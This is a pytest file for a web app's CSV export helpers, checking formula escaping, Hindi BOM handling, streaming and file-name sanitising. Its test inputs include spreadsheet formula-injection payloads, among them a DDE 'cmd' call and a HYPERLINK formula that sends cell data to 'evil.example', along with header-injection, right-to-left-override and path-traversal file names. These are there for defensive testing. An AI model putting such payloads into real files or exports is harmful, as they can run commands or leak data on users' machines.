"""Files for Excel: Hindi shows, nothing runs, and a whole State is never held in memory."""

import csv
import io
from itertools import islice

import pytest
from flask import Response
from hypothesis import given
from hypothesis import strategies as st
from werkzeug.http import parse_options_header

from karmyogi.web.exports import as_download, csv_lines, csv_response, harmless
from tests.web.site import sqlite_site

BOM = "\ufeff"


@pytest.fixture(scope="module")
def site(engines, tmp_path_factory):
    yield from sqlite_site(engines, tmp_path_factory.mktemp("media"))


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


# ── Cells ──

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"click")', "=IMPORTXML(A1)", "+1+1", "-1+1",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "  \u200d +1",
    "＝1+1", "＋1", "－1", "＠SUM(A1)", "-", "=", "@asha", "+91 90000 00000", "-5",
)  # fmt: skip


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_a_text_that_a_spreadsheet_might_run_is_shown_as_text(cell):
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell", ["आशा साहू", "Asha", "1=1", "a@b", "", " ", "'=1", 5, -5, 0, None, 2.5, True, "०", "(=1)"]
)
def test_any_other_cell_stays_as_it_is_and_numbers_stay_numbers(cell):
    assert harmless(cell) == cell
    assert type(harmless(cell)) is type(cell)


@given(st.text())
def test_no_text_whatever_begins_a_formula_once_it_is_harmless(text):
    assert not str(harmless(text)).lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))


# ── Files ──


def test_a_file_begins_with_the_mark_by_which_excel_knows_hindi():
    [text] = csv_lines(["क्रमांक", "नाम"], [[1, "आशा"]])

    assert text == "\ufeffक्रमांक,नाम\r\n1,आशा\r\n"


def test_a_file_without_rows_is_its_header():
    assert "".join(csv_lines(["name"], [])) == "\ufeffname\r\n"


def test_nothing_is_an_empty_cell_and_zero_is_a_zero():
    assert rows_of("".join(csv_lines(["a", "b", "c"], [[None, 0, ""]]))) == [["a", "b", "c"], ["", "0", ""]]


def test_the_header_too_runs_nothing():
    assert rows_of("".join(csv_lines(["=1+1"], []))) == [["'=1+1"]]


cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00\r\n"))


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_what_is_written_is_read_back_cell_by_cell(rows):
    written = "".join(csv_lines(["one", "two"], rows))

    assert rows_of(written)[1:] == [[harmless(cell) for cell in row] for row in rows]


def test_a_large_file_is_made_piece_by_piece_as_its_rows_come():
    taken = 0

    def rows():
        nonlocal taken
        for number in range(10_000):
            taken += 1
            yield [number]

    pieces = csv_lines(["n"], rows())
    first = next(pieces)

    assert (len(first.splitlines()), taken) == (1001, 1000)
    assert [piece[:6] for piece in islice(pieces, 2)] == ["1000\r\n", "2000\r\n"]
    assert len("".join(pieces).splitlines()) == 7000


def test_a_download_streams_and_says_what_it_is(site):
    with site.app.test_request_context("/"):
        answer = csv_response("अग्रणी सूची 2026-01", ["n"], ([n] for n in range(3)))

        assert answer.is_streamed
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert rows_of(answer.get_data(as_text=True)) == [["n"], ["0"], ["1"], ["2"]]


# ── Names ──


def name_told(file_name: str) -> str:
    kind, options = parse_options_header(as_download(Response(), file_name).headers["Content-Disposition"])
    assert kind == "attachment"
    return options["filename"]


@pytest.mark.parametrize(
    ("given", "told"),
    [
        ("scores.csv", "scores.csv"),
        ("अग्रणी सूची, जनवरी 2026.csv", "अग्रणी सूची, जनवरी 2026.csv"),
        ("क्‍ष.pdf", "क्‍ष.pdf"),
        ('a"; filename="evil.exe', 'a"; filename="evil.exe'),
        ("a\r\nSet-Cookie: x=1.csv", "a Set-Cookie: x=1.csv"),
        ("a\x00b.csv", "ab.csv"),
        ("order\u202egpj.exe", "ordergpj.exe"),
        ("GAD/KMY/2026/1.pdf", "GAD-KMY-2026-1.pdf"),
        ("..\\..\\evil.bat", "..-..-evil.bat"),
        ("100%.csv", "100%.csv"),
    ],
)
def test_a_name_comes_through_in_any_script_and_cannot_mislead(given, told):
    assert name_told(given) == told
